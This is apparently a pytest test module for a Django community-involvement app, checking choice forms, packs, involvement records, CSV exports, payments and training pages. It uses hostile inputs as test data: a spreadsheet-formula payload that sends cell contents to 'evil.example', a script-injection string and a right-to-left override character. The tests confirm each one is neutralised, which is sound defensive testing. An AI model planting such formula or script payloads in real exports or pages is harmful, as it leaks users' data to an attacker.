"""The people side of involvement through its pages: choosing how much to be asked
(without JavaScript), the packs the hourly tick makes and the ones a coordinator posts,
the record of involvement with its CSV and certificate, the hub's figures with small
groups hidden, payments, the hub's rules and training; hostile input; query counts.
Who may see each page, as each persona, is in tests/test_permission_matrix.py."""

import csv
import datetime
import io
import threading
from pathlib import Path

import pytest
from django.db import connection, connections
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from coproduce.hubs import services as hubs
from coproduce.hubs.models import AuditEvent, CheckType
from coproduce.involve import services
from coproduce.involve.models import (
    Attendance,
    CoKind,
    Expense,
    ExpenseStatus,
    HowOften,
    InvolvementChoice,
    InvolvementPolicy,
    Joining,
    Opportunity,
    Pack,
    PackFormat,
    Recompense,
    Training,
)
from tests.conftest import make_person

from .people_setup import PANEL_TRAINING, build_involvement, meeting, move_to_past

pytestmark = pytest.mark.django_db

SOURCE = Path(__file__).resolve().parents[2] / "src" / "coproduce" / "involve"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def involved(world):
    return build_involvement(world)


def url(name, world, *args, query=""):
    return reverse(name, args=[world.hub.slug, *args]) + query


def page(client, person, address, status=200):
    client.force_login(person)
    response = client.get(address)
    assert response.status_code == status, response.content[:500]
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def opportunity(world, title, kind=CoKind.CO_DESIGN, days=45, **changes):
    values = {
        "actor": world.coordinator,
        "hub": world.hub,
        "kind": kind,
        "title": title,
        "description": "Something to help with.",
        "lead": world.coordinator,
        "meetings": [meeting(days)],
        "user_places": 3,
        "joining": Joining.INSTANT,
    }
    return services.opportunity_create(**{**values, **changes})


def attended(world, opportunity, people, choice=Recompense.PAYMENT, days_ago=2):
    signups = [services.signup_ask(actor=p, opportunity=opportunity) for p in people]
    session = move_to_past(opportunity.sessions.first(), days_ago=days_ago)
    marks = {s.pk: ("attended", None) for s in signups}
    came = services.attendance_record(actor=world.coordinator, session=session, marks=marks)
    for a in came:
        if choice:
            services.thanks_choose(actor=a.person, attendance=a, choice=choice)
    return came


# --- how much to be asked -----------------------------------------------------------------


def test_choosing_how_much_to_be_asked_without_javascript(world, client):
    address = url("involve-choices", world)
    body = page(client, world.member, address)
    assert "You have not chosen yet, so you are not sent anything." in body
    for label in ("Co-monitoring: checking the service keeps its promises", "A monthly pack"):
        assert label in body
    response = client.post(
        address,
        {
            "kinds": ["co_managing", "co_design"],
            "how_often": "monthly",
            "format": "email",
            "recompense": "credits",
        },
    )
    assert response.status_code == 302 and response["Location"] == address
    body = client.get(address).content.decode()
    said = (
        "You will get a monthly pack of ways to be involved about co-design, co-managing "
        "(only), by email."
    )
    assert said in body
    choice = InvolvementChoice.objects.get(person=world.member, hub=world.hub)
    assert (choice.kinds, choice.how_often) == (["co_design", "co_managing"], "monthly")
    assert AuditEvent.objects.filter(event="involvement_choices.changed").count() == 1
    # The boxes ticked are the ones saved.
    assert 'value="co_design" aria-describedby="id_kinds_helptext" id="id_kinds_1" checked' in body


def test_a_coordinator_chooses_for_someone_not_online_but_not_for_someone_who_is(world, client):
    address = url("involve-choices", world, query=f"?person={world.assisted.pk}")
    body = page(client, world.coordinator, address)
    assert "Ron Assisted is not online" in body
    client.post(
        address,
        {"kinds": [], "how_often": "weekly", "format": "large_print", "recompense": "voucher"},
    )
    choice = InvolvementChoice.objects.get(person=world.assisted)
    assert (choice.how_often, choice.format) == ("weekly", "large_print")
    body = client.get(address).content.decode()
    assert (
        "Ron Assisted will get a weekly pack of ways to be involved about every kind of "
        "involvement, in large print, by post" in (body)
    )
    event = AuditEvent.objects.get(event="involvement_choices.changed")
    assert (event.actor, event.on_behalf_of) == (world.coordinator, world.assisted)
    sams = url("involve-choices", world, query=f"?person={world.member.pk}")
    assert client.get(sams).status_code == 404
    assert client.post(sams, {"how_often": "never", "format": "email"}).status_code == 404
    assert not InvolvementChoice.objects.filter(person=world.member).exists()


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"kinds": ["co_hacking"], "how_often": "monthly"}, "kinds"),
        ({"kinds": ["<script>alert(1)</script>"], "how_often": "monthly"}, "kinds"),
        ({"how_often": "hourly"}, "how_often"),
        ({"how_often": "monthly", "format": "pigeon"}, "format"),
        ({"how_often": "monthly", "recompense": "\u202egold"}, "recompense"),
    ],
)
def test_bad_choices_name_the_field_and_save_nothing(world, client, data, field):
    client.force_login(world.member)
    full = {"format": "email", "recompense": "credits", **data}
    response = client.post(url("involve-choices", world), full)
    assert response.status_code == 400
    assert f'id="id_{field}_error"' in response.content.decode()
    assert not InvolvementChoice.objects.exists()


def test_a_query_person_that_is_no_person_is_a_404(world, client):
    client.force_login(world.coordinator)
    for odd in ("abc", "99999999999999999999999", "-1", str(world.outsider.pk)):
        response = client.get(url("involve-choices", world, query=f"?person={odd}"))
        assert response.status_code == 404, odd


# --- packs --------------------------------------------------------------------------------


def test_a_pack_holds_only_what_the_person_chose_and_may_take(world, client):
    sam = world.member
    fits = opportunity(world, "Fits Sam")
    opportunity(world, "Another kind", kind=CoKind.CO_MONITORING)
    opportunity(world, "Staff only", staff_places=2, user_places=0)
    opportunity(world, "Needs training", training="Incident review training")
    opportunity(world, "Needs a check", needs_check=True)
    opportunity(world, "By invitation", joining=Joining.INVITATION)
    opportunity(world, "Already over", when="one_off")
    Opportunity.objects.filter(title="Already over").get().sessions.update(
        starts_at=timezone.now() - datetime.timedelta(days=1),
        ends_at=timezone.now() - datetime.timedelta(days=1) + datetime.timedelta(hours=1),
    )
    services.choices_set(
        actor=sam,
        person=sam,
        hub=world.hub,
        kinds=[CoKind.CO_DESIGN],
        how_often=HowOften.MONTHLY,
        format=PackFormat.EMAIL,
    )
    assert services.packs_make() == 1
    assert services.packs_make() == 0  # the same period: made once
    pack = Pack.objects.get(person=sam)
    assert [o.title for o in pack.opportunities.all()] == ["Fits Sam"]
    body = page(client, sam, url("involve-pack", world, pack.pk))
    assert (
        "Fits Sam" in body and reverse("involve-opportunity", args=["millbrook", fits.pk]) in body
    )
    for other in ("Another kind", "Staff only", "Needs training", "Needs a check", "By invitation"):
        assert other not in body
    assert "3 service users" in body  # the places
    assert "In person" in body
    # Trained and checked, the next month's pack has those too.
    services.training_record(
        actor=world.coordinator, hub=world.hub, person=sam, name="Incident review training"
    )
    hubs.safeguarding_check_add(
        actor=world.coordinator,
        hub=world.hub,
        person=sam,
        check_type=CheckType.DBS_ENHANCED,
        reference="DBS-PACK",
        issued_on=timezone.localdate() - datetime.timedelta(days=10),
        expires_on=timezone.localdate() + datetime.timedelta(days=700),
    )
    next_month = (timezone.localdate().replace(day=1) + datetime.timedelta(days=32)).replace(day=1)
    moment = timezone.make_aware(datetime.datetime.combine(next_month, datetime.time(9)))
    assert services.packs_make(moment) == 1
    later = Pack.objects.get(person=sam, period_start=next_month)
    assert sorted(o.title for o in later.opportunities.all()) == [
        "Fits Sam",
        "Needs a check",
        "Needs training",
    ]


@pytest.mark.django_db(transaction=True)
def test_two_ticks_at_once_make_each_pack_once(world):
    opportunity(world, "Fits everyone")
    for person in (world.member, world.staff):
        services.choices_set(
            actor=person,
            person=person,
            hub=world.hub,
            kinds=[],
            how_often=HowOften.WEEKLY,
            format=PackFormat.EMAIL,
        )
    start, made, errors = threading.Barrier(2), [], []

    def tick():
        try:
            start.wait()
            made.append(services.packs_make())
        except Exception as error:  # pragma: no cover - reported below
            errors.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=tick) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    assert sum(made) == 2
    assert Pack.objects.count() == 2


def test_a_pack_is_its_persons_and_coordinators_only(world, client, involved):
    address = url("involve-pack", world, involved.pack.pk)
    assert "Matrix research advisory group" in page(client, world.coordinator, address)
    page(client, world.staff, address, status=404)
    page(client, world.outsider, address, status=404)
    page(client, world.member, url("involve-pack", world, 2**63), status=404)


def test_large_print_for_those_who_chose_it(world, client, involved):
    services.choices_set(
        actor=world.member,
        person=world.member,
        hub=world.hub,
        kinds=[],
        how_often=HowOften.MONTHLY,
        format=PackFormat.LARGE_PRINT,
    )
    body = page(client, world.member, url("involve-pack", world, involved.pack.pk))
    assert 'class="large-print"' in body and "involve/involve.css" in body


def test_the_packs_to_post_each_start_a_page_with_who_and_how(world, client, involved):
    services.choices_set(
        actor=world.staff,
        person=world.staff,
        hub=world.hub,
        kinds=[],
        how_often=HowOften.MONTHLY,
        format=PackFormat.PHONE,
    )
    pat = hubs.person_register(email="pat@example.org", display_name="Pat Never", password=None)
    hubs.membership_add(actor=world.admin, hub=world.hub, person=pat)
    services.choices_set(
        actor=world.coordinator,
        person=pat,
        hub=world.hub,
        kinds=[],
        how_often=HowOften.MONTHLY,
        format=PackFormat.EMAIL,
    )
    services.packs_make()
    body = page(client, world.coordinator, url("involve-packs-print", world))
    # Ron (post), Dr Amir (phone) and Pat (never signed in), not Sam (email, online).
    assert body.count('class="printed-pack') == 3
    assert "Not online: a letter by post" in body
    assert "Sam Member: involvement pack" not in body
    assert "Ron Assisted: involvement pack for" in body and "01632 960 101" in body
    assert "A letter by post" in body and "A phone call from a coordinator" in body
    ring = body.split("<h2>Who to ring</h2>")[1].split("<h2>")[0]
    assert "Ron Assisted" in ring and "Dr Amir Staff" in ring  # Ron prefers the phone
    css = (SOURCE / "static" / "involve" / "involve.css").read_text(encoding="utf-8")
    assert "page-break-before: always" in css


# --- the record ---------------------------------------------------------------------------


def test_my_record_shows_roles_meetings_training_and_thanks(world, client, involved):
    body = page(client, world.member, url("involve-record", world))
    for text in (
        "My record of involvement",
        "Matrix practice nurse panel",
        "Has a place",
        "1 h 30 min",
        "A payment at the hub&#x27;s rate: £20.00, to be paid",
        "Mileage £2.93: claimed",
        PANEL_TRAINING,
        "Valid until",
    ):
        assert text in body, text
    assert "90" not in body.split("<h2>Meetings</h2>")[1].split("<h2>")[0].replace("2026", "")


def test_a_no_show_and_apologies_are_on_the_record(world, client, involved):
    group = opportunity(world, "Series", when="series", meetings=[meeting(3), meeting(40)])
    signup = services.signup_ask(actor=world.member, opportunity=group)
    session = move_to_past(group.sessions.first())
    services.attendance_record(
        actor=world.coordinator, session=session, marks={signup.pk: ("no_show", None)}
    )
    body = page(client, world.member, url("involve-record", world))
    assert "Did not come" in body
    assert "<dt>Missed without apologies</dt><dd>1</dd>" in body


def test_expired_training_is_said_in_words(world, client, involved):
    Training.objects.filter(pk=involved.training.pk).update(
        trained_on=timezone.localdate() - datetime.timedelta(days=400),
        expires_on=timezone.localdate() - datetime.timedelta(days=35),
    )
    body = page(client, world.member, url("involve-record", world))
    assert "Expired on" in body
    body = page(client, world.coordinator, url("involve-training", world))
    assert "Expired on" in body


def test_the_record_csv_opens_in_a_spreadsheet_with_pounds_and_no_formula(world, client, involved):
    Opportunity.objects.filter(pk=involved.panel.pk).update(title=HOSTILE)
    body = page(client, world.member, url("involve-record-csv", world, world.member.pk))
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0][8] == "Amount (£)" and rows[0][9] == "Expenses (£)"
    meeting_row = next(r for r in rows if r[0] == "Meeting")
    assert meeting_row[2] == "'" + HOSTILE
    assert (meeting_row[5], meeting_row[6], meeting_row[8], meeting_row[9]) == (
        "1:30",
        "1.50",
        "20.00",
        "2.93",
    )
    assert [r[0] for r in rows[1:]] == ["Meeting", "Role", "Training"]
    assert not any(c.startswith(("=", "+", "@")) for r in rows for c in r)


def test_the_certificate_for_an_employer(world, client, involved):
    body = page(client, world.member, url("involve-certificate", world, world.member.pk))
    text = " ".join(body.split())
    assert "This is to certify that <strong>Sam Member</strong> took part" in text
    assert "Matrix practice nurse panel" in text
    assert "1 meeting, 1 h 30 min" in text
    assert "Co-managing" in text and PANEL_TRAINING in text
    assert "Signed off by <strong>Millbrook Time Bank</strong>" in text
    assert "£" not in body  # no payments on it
    assert "involve/involve.css" in body


def test_a_coordinator_sees_a_members_record_staff_do_not(world, client, involved):
    address = url("involve-record-person", world, world.member.pk)
    assert "Sam Member's record of involvement" in page(client, world.coordinator, address)
    page(client, world.staff, address, status=404)
    page(client, world.coordinator, url("involve-record-person", world, world.outsider.pk), 404)
    page(client, world.coordinator, url("involve-record-person", world, 2**63), 404)


# --- figures ------------------------------------------------------------------------------


def test_figures_hide_small_groups_and_count_larger_ones(world, client, involved):
    body = page(client, world.staff, url("involve-figures", world))
    assert "<dt>People involved (came to at least one meeting)</dt><dd>fewer than 5</dd>" in body
    assert "<dt>Co-managing</dt><dd>fewer than 5</dd>" in body
    assert "<dt>Staff hired by those panels</dt><dd>1</dd>" in body
    assert "<dt>Payments</dt><dd>£20.00</dd>" in body
    newcomers = [make_person(f"fig{i}@example.org", f"Figure Person {i}") for i in range(6)]
    for person in newcomers:
        hubs.membership_add(actor=world.admin, hub=world.hub, person=person)
    review = opportunity(world, "Review", kind=CoKind.CO_EVALUATING, user_places=6)
    attended(world, review, newcomers, choice=Recompense.VOUCHER)
    body = page(client, world.staff, url("involve-figures", world))
    assert "<dt>People involved (came to at least one meeting)</dt><dd>8</dd>" in body
    assert "<dt>Co-evaluating</dt><dd>6</dd>" in body
    assert "<dt>Co-managing</dt><dd>fewer than 5</dd>" in body
    assert "<dt>Vouchers</dt><dd>£90.00</dd>" in body
    assert "<dt>Meetings held</dt><dd>2 meetings</dd>" in body
    assert "100% (8 of 8 people)" in body  # all for the first time this year
    # One of them came to something last year too: not for the first time.
    earlier = opportunity(world, "Last year", kind=CoKind.CO_EVALUATING, user_places=1)
    attended(world, earlier, newcomers[:1], choice=None, days_ago=370)
    body = page(client, world.staff, url("involve-figures", world))
    assert "88% (7 of 8 people)" in body
    # Another period: nothing.
    body = page(
        client, world.staff, url("involve-figures", world, query="?start=2020-01-01&end=2020-12-31")
    )
    assert "<dt>People involved (came to at least one meeting)</dt><dd>0</dd>" in body
    page(client, world.member, url("involve-figures", world), status=403)


@pytest.mark.parametrize(
    "query", ["?start=yesterday", "?start=2026-05-01&end=2026-01-01", "?end=99999-01-01"]
)
def test_figures_refuse_odd_dates_naming_the_field(world, client, query):
    client.force_login(world.coordinator)
    response = client.get(url("involve-figures", world, query=query))
    assert response.status_code == 400
    assert "There is a problem" in response.content.decode()


def test_figures_take_a_fixed_number_of_queries_at_any_size(world, client, involved):
    client.force_login(world.coordinator)
    address = url("involve-figures", world)
    client.get(address)
    with CaptureQueriesContext(connection) as small:
        client.get(address)
    newcomers = [make_person(f"many{i}@example.org", f"Many {i}") for i in range(8)]
    for person in newcomers:
        hubs.membership_add(actor=world.admin, hub=world.hub, person=person)
    for i in range(2):
        attended(world, opportunity(world, f"More {i}", user_places=8), newcomers)
    with CaptureQueriesContext(connection) as large:
        client.get(address)
    assert len(large) == len(small) <= 15


# --- payments -----------------------------------------------------------------------------


def test_payments_list_decides_expenses_and_marks_paid(world, client, involved):
    address = url("involve-payments", world)
    body = page(client, world.coordinator, address)
    assert "£20.00" in body and "£2.93" in body and "Waiting" in body
    response = client.post(address, {"action": "approve", "expense": involved.expense.pk})
    assert response.status_code == 302
    assert Expense.objects.get(pk=involved.expense.pk).status == ExpenseStatus.APPROVED
    today = timezone.localdate().isoformat()
    client.post(address, {"action": "mark_paid", "up_to": today})
    assert Attendance.objects.get(pk=involved.attendance.pk).paid_at is not None
    assert Expense.objects.get(pk=involved.expense.pk).status == ExpenseStatus.PAID
    body = client.get(address + "?show=paid").content.decode()
    assert "Paid " in body


def test_a_coordinator_never_decides_their_own_expenses(world, client):
    review = opportunity(world, "Grace's own", staff_places=1, user_places=0)
    review.lead = world.admin
    review.save()
    signup = services.signup_ask(actor=world.coordinator, opportunity=review)
    session = move_to_past(review.sessions.first())
    [came] = services.attendance_record(
        actor=world.admin, session=session, marks={signup.pk: ("attended", None)}
    )
    own = services.expense_claim(
        actor=world.coordinator, attendance=came, kind="mileage", miles="3"
    )
    client.force_login(world.coordinator)
    body = client.get(url("involve-payments", world)).content.decode()
    assert "Another coordinator decides your own claim." in body
    client.post(url("involve-payments", world), {"action": "approve", "expense": own.pk})
    assert Expense.objects.get(pk=own.pk).status == ExpenseStatus.CLAIMED


@pytest.mark.parametrize("up_to", ["", "tomorrow", "2999-01-01"])
def test_mark_paid_refuses_odd_dates(world, client, involved, up_to):
    client.force_login(world.coordinator)
    response = client.post(url("involve-payments", world), {"action": "mark_paid", "up_to": up_to})
    assert response.status_code == 400
    assert 'id="id_up_to_error"' in response.content.decode()
    assert Attendance.objects.get(pk=involved.attendance.pk).paid_at is None


def test_the_payments_csv_for_the_finance_team(world, client, involved):
    from coproduce.hubs.models import Person

    Person.objects.filter(pk=world.member.pk).update(display_name="@Sam -1")
    Opportunity.objects.filter(pk=involved.panel.pk).update(title=HOSTILE)
    body = page(client, world.coordinator, url("involve-payments-csv", world))
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == [
        "Date of meeting",
        "Person",
        "What",
        "Time (h:mm)",
        "Kind",
        "Amount (£)",
        "Taxable",
        "Benefits warning shown",
        "Status",
        "Chosen or claimed on",
    ]
    payment, mileage = rows[1], rows[2]
    assert payment[1:3] == ["'@Sam -1", "'" + HOSTILE]
    assert payment[3:9] == ["1:30", "payment", "20.00", "yes", "no", "waiting"]
    assert mileage[4:9] == ["expenses mileage", "2.93", "no", "no", "not approved yet"]
    services.expense_decide(actor=world.coordinator, expense=involved.expense, approve=True)
    body = page(client, world.coordinator, url("involve-payments-csv", world))
    mileage = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))[2]
    assert mileage[4:9] == ["expenses mileage", "2.93", "no", "no", "waiting"]


# --- the hub's rules ----------------------------------------------------------------------


def rules(**changes):
    values = {
        "payment": "25.00",
        "block_hours": "2",
        "block_minutes": "30",
        "payment_taxable": "0",
        "voucher": "£15",
        "mileage": "0.45",
        "weekly_limit": "40.00",
        "cap_hours": "16",
        "cap_minutes": "",
        "limits_are_hard": "1",
        "favour_areas": "1",
        "advice": "Citizens Advice: 0800 144 8848.",
    }
    return {**values, **changes}


def test_the_hubs_rules_in_hours_and_pounds(world, client):
    area = hubs.neighbourhood_create(actor=world.admin, hub=world.hub, name="Riverside")
    client.force_login(world.coordinator)
    body = client.get(url("involve-settings", world)).content.decode()
    assert 'name="block_hours" value="3"' in body and 'name="payment" value="20.00"' in body
    response = client.post(url("involve-settings", world), rules(priority_areas=[area.pk]))
    assert response.status_code == 302
    policy = InvolvementPolicy.objects.get(hub=world.hub)
    assert (policy.payment_pence, policy.block_minutes, policy.voucher_pence) == (2500, 150, 1500)
    assert (policy.weekly_pay_limit_pence, policy.monthly_minutes_cap) == (4000, 960)
    assert policy.limits_are_hard and policy.favour_areas and not policy.payment_taxable
    assert list(policy.priority_areas.all()) == [area]
    assert AuditEvent.objects.filter(event="involvement_policy.updated").count() == 1
    client.post(url("involve-settings", world), rules(priority_areas=[area.pk]))
    assert AuditEvent.objects.filter(event="involvement_policy.updated").count() == 1


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"payment": "1e999"}, "payment"),
        ({"payment": "-5"}, "payment"),
        ({"payment": "99999999999999"}, "payment"),
        ({"payment": "<b>20</b>"}, "payment"),
        ({"voucher": "NaN"}, "voucher"),
        ({"mileage": "11"}, "mileage"),
        ({"block_hours": "0", "block_minutes": "5"}, "block_hours"),
        ({"block_hours": "99999999999999999999"}, "block_hours"),
        ({"cap_hours": "0", "cap_minutes": "0"}, "cap_hours"),
        ({"advice": "x" * 301}, "advice"),
        ({"limits_are_hard": "maybe"}, "limits_are_hard"),
        ({"priority_areas": ["999999"]}, "priority_areas"),
    ],
)
def test_bad_rules_name_the_field_and_save_nothing(world, client, changes, field):
    client.force_login(world.coordinator)
    response = client.post(url("involve-settings", world), rules(**changes))
    assert response.status_code == 400
    assert f'id="id_{field}_error"' in response.content.decode()
    assert not InvolvementPolicy.objects.filter(hub=world.hub).exists()


# --- training -----------------------------------------------------------------------------


def test_recording_training_with_the_people_picker_without_javascript(world, client):
    client.force_login(world.coordinator)
    address = url("involve-training", world)
    found = client.post(address, {"person__q": "Sam", "_find": "person", "name": "Panel"})
    assert found.status_code == 200 and "Sam Member" in found.content.decode()
    assert not Training.objects.exists()
    response = client.post(
        address,
        {
            "person": world.member.pk,
            "name": "  <i>Panel</i> training ‮ ",
            "trained_on": timezone.localdate().isoformat(),
            "expires_on": (timezone.localdate() + datetime.timedelta(days=365)).isoformat(),
        },
    )
    assert response.status_code == 302
    training = Training.objects.get()
    assert training.name == "<i>Panel</i> training"
    body = client.get(address).content.decode()
    assert "&lt;i&gt;Panel&lt;/i&gt; training" in body and "Valid until" in body


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"person": str(2**70)}, "person"),
        ({"name": ""}, "name"),
        ({"name": "x" * 121}, "name"),
        ({"trained_on": "31/02/2026"}, "trained_on"),
        ({"trained_on": "2999-01-01"}, "trained_on"),
        ({"expires_on": "2000-01-01"}, "expires_on"),
    ],
)
def test_bad_training_names_the_field_and_saves_nothing(world, client, changes, field):
    client.force_login(world.coordinator)
    data = {"person": world.member.pk, "name": "Panel", "trained_on": "2026-01-05", **changes}
    response = client.post(url("involve-training", world), data)
    assert response.status_code == 400
    assert f'id="id_{field}_error"' in response.content.decode()
    assert not Training.objects.exists()


# --- queries do not grow with the hub -----------------------------------------------------


def _count(client, address) -> int:
    client.get(address)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(address)
        if response.streaming:
            b"".join(response.streaming_content)
    return len(captured)


def test_no_people_page_needs_more_queries_as_the_hub_grows(world, client, involved):
    client.force_login(world.coordinator)
    sam = world.member.pk
    addresses = [
        url("involve-record-person", world, sam),
        url("involve-record-csv", world, sam),
        url("involve-certificate", world, sam),
        url("involve-pack", world, involved.pack.pk),
        url("involve-packs-print", world),
        url("involve-payments", world),
        url("involve-payments-csv", world),
        url("involve-training", world),
        url("involve-figures", world),
        url("involve-settings", world),
        url("involve-choices", world, query=f"?person={world.assisted.pk}"),
    ]
    small = {a: _count(client, a) for a in addresses}
    newcomers = []
    for i in range(6):
        person = hubs.person_create_assisted(
            actor=world.coordinator,
            hub=world.hub,
            display_name=f"Grown {i}",
            phone="01632 960 000",
            consent_purpose="To be a member",
            consent_method="phone",
        )
        newcomers.append(person)
        services.choices_set(
            actor=world.coordinator,
            person=person,
            hub=world.hub,
            kinds=[],
            how_often=HowOften.MONTHLY,
            format=PackFormat.LARGE_PRINT,
        )
        services.training_record(
            actor=world.coordinator, hub=world.hub, person=person, name="Panel"
        )
    for i in range(3):
        more = opportunity(world, f"Grown {i}", user_places=8)
        for a in attended(world, more, [world.member, *newcomers[:4]], choice=None):
            if a.person_id == sam:
                services.thanks_choose(actor=a.person, attendance=a, choice=Recompense.PAYMENT)
                services.expense_claim(actor=a.person, attendance=a, kind="mileage", miles="2")
            else:
                services.thanks_choose(
                    actor=world.coordinator, attendance=a, choice=Recompense.VOUCHER
                )
    opportunity(world, "Open for packs", user_places=8)
    services.packs_make()
    assert Pack.objects.count() >= 8
    grown = {a: _count(client, a) for a in addresses}
    assert grown == small
    assert max(grown.values()) <= 25, grown


def test_the_training_picker_searches_for_coordinators_only(world, client):
    address = reverse("people-search", args=[world.hub.slug]) + "?for=involve-trained&person__q=Sam"
    client.force_login(world.coordinator)
    response = client.get(address + "&field=person&id=id_person")
    assert response.status_code == 200 and "Sam Member" in response.content.decode()
    client.force_login(world.member)
    assert client.get(address + "&field=person&id=id_person").status_code in (403, 404)
